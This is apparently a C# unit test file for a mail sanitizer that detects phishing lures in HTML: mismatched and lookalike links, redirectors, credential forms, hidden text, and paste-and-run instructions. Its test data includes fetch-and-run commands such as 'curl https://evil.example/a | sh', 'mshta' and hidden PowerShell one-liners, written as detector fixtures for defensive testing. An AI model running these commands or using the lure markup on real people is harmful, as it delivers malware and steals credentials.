using System.Text;
using MailSanitizer.Content.Formats.Links;
using MailSanitizer.Content.Tests.PartWalking;

namespace MailSanitizer.Content.Tests.Disarming.Html;

/// <summary>Lures without code: notes, with the ordinary things that they must not be taken for.</summary>
public class LureTests
{
    [Theory]
    [InlineData("link-mismatch", "<a href='https://evil.example/login'>https://www.bank.example.jp/</a>")]
    [InlineData("link-mismatch", "<a href='https://evil.example/'><b>www.bank</b>.co.jp</a>")]
    [InlineData("lookalike-link", "<a href='https://xn--pple-43d.com/'>x</a>")]
    [InlineData("lookalike-link", "<a href='https://раураl.example/'>x</a>")]
    [InlineData("lookalike-link", "<a href='https://xn--80ak6aa92e.com/'>x</a>")]
    [InlineData("redirector-link", "<a href='https://www.google.com/url?q=https%3A%2F%2Fevil.example%2F&amp;sa=D'>x</a>")]
    [InlineData("redirector-link", "<a href='https://www.youtube.com/redirect?q=https://evil.example/'>x</a>")]
    [InlineData("password-form", "<form><input name=p type=' PassWord'></form>")]
    [InlineData("form-to-foreign-host", "<form action='https://evil.example/p.php'><input name=p></form>")]
    [InlineData("hidden-text", "<p>seen</p><span style='font-size:0'>nothing of this is to be seen by a reader</span>")]
    [InlineData("hidden-text", "<p>seen</p><span style='color:#fff;background-color: white'>nothing of this is to be seen by a reader</span>")]
    [InlineData("hidden-text", "<p>seen</p><div style='display : none'>nothing of this is to be seen by a reader</div>")]
    [InlineData("hidden-text", "<p>pass\u200Bword in\u200Bvoice ac\u200Bcount</p>")]
    [InlineData("hidden-text", "<p>pass&ZeroWidthSpace;word in&#8203;voice ac&zwj;count</p>")]
    [InlineData("paste-instruction", "<p>Press <b>Win</b> + <b>R</b>, then Ctrl + V:</p><code>powershell -w hidden -c iex(irm x)</code>")]
    [InlineData("paste-instruction", "<p>「ファイル名を指定して実行」を開き、貼り付けてください</p><p>mshta https://evil.example/a</p>")]
    [InlineData("paste-instruction", "<p>ターミナルを開いて</p><p>curl https://evil.example/a | sh</p>")]
    [InlineData("paste-instruction", "<p>WindowsキーとRを同時に押し、Ctrl＋Vで貼り付け</p><p>実行する内容：ｐｏｗｅｒｓｈｅｌｌ -w h -c x</p>")]
    [InlineData("paste-instruction", "<p>Windows キーを押しながら R キーを押します</p><p>power\u200Bshell -enc AAAA</p>")]
    [InlineData("paste-instruction", "<p>エクスプローラーのアドレスバーに次を貼り付けてください</p><p>cmd /c start x</p>")]
    [InlineData("paste-instruction", "<p>Open Terminal</p><p>echo aGk= | base64 -d | bash</p>")]
    [InlineData("paste-instruction", "<script>navigator.clipboard.writeText('powershell')</script>")]
    public void Is_noted(string kind, string markup)
    {
        RecordingSink sink = Disarmed.Walk(DisarmSample.Of("page.html", "<html><body>" + markup));
        Assert.Contains(kind, sink.Kinds);
        Assert.Equal(FindingClass.Note, FindingKinds.Find(kind)!.Class);
    }

    [Theory]
    [InlineData("<a href='https://www.example.jp/a?b=c'>www.example.jp</a>")]
    [InlineData("<a href='https://login.example.co.jp/'>https://www.example.co.jp/</a>")]
    [InlineData("<a href='https://click.example.com/?u=https%3A%2F%2Fwww.bank.example.jp'>www.bank.example.jp</a>")]
    [InlineData("<a href='https://files.example.com/1'>report.pdf</a>")]
    [InlineData("<a href='https://example.com/'>e.g. this and that.</a>")]
    [InlineData("<a href='https://xn--wgv71a119e.jp/'>日本語.jp</a>")]
    [InlineData("<a href='https://xn--mnchen-3ya.example/'>x</a>")]
    [InlineData("<a href='https://www.google.com/search?q=https://a.example'>x</a>")]
    [InlineData("<div style='display:none;max-height:0'>The preview line of this newsletter, which is long enough &zwnj;&nbsp;&zwnj;</div><p>seen</p>")]
    [InlineData("<p>seen</p><td style='font-size:0'><div style='font-size:14px'>all of this is to be seen by a reader</div></td>")]
    [InlineData("<p>seen</p><div class=mobile style='display:none'>the same for telephones, which the style sheet shows</div>")]
    [InlineData("<p>次のパスをアドレスバーに貼り付けてください: \\\\server\\share\\資料</p>")]
    [InlineData("<p>PowerShell の新しい版について。ショートカットは Ctrl+C です。</p>")]
    [InlineData("<p>Our new terminal supports curl and other tools. Read on.</p>")]
    [InlineData("<p>می‌خواهم می‌خواهم می‌خواهم می‌خواهم 👩‍👩‍👧</p>")]
    public void Is_not_noted(string markup)
    {
        RecordingSink sink = Disarmed.Walk(DisarmSample.Of("page.html", "<html><body>" + markup));
        Assert.Empty(sink.Findings);
    }

    [Fact]
    public void Links_are_facts_with_the_text_that_stands_on_them()
    {
        RecordingSink sink = Disarmed.Walk(DisarmSample.Of("page.html", "<html><a href=' https://a.example/?a=1&amp;b=2 '>See\n <b>this</b></a><a href='mailto:x@example.jp'>mail</a><a href='#x'>no</a><map><area href='https://b.example/'></map><a href='https://c.example/'><img alt='picture'></a>"));
        Assert.Equal([("https://a.example/?a=1&b=2", "See this"), ("mailto:x@example.jp", "mail"), ("https://b.example/", ""), ("https://c.example/", "picture")], sink.Links.Select(link => (link.Url, link.Text)));
        Assert.All(sink.Links, link => Assert.Equal("html", link.Source));
    }

    [Theory]
    [InlineData("shop.example.jp", 0)]
    [InlineData("evil.example", 1)]
    public void A_form_is_foreign_to_its_sender(string host, int count)
    {
        byte[] mail = Encoding.ASCII.GetBytes($"From: Shop <news@example.jp>\r\nContent-Type: text/html\r\n\r\n<html><form action=\"https://{host}/\"><input name=a></form>\r\n");
        Assert.Equal(count, Walks.Walk(mail, handlers: PartHandlers.All).Kinds.Count(kind => kind == "form-to-foreign-host"));
    }

    [Theory]
    [InlineData("a.b.example.co.jp", "example.co.jp")]
    [InlineData("a.example.com", "example.com")]
    [InlineData("192.0.2.1", "192.0.2.1")]
    [InlineData("example", "example")]
    public void Organisational_domains(string host, string domain) => Assert.Equal(domain, LinkHosts.Domain(host));
}
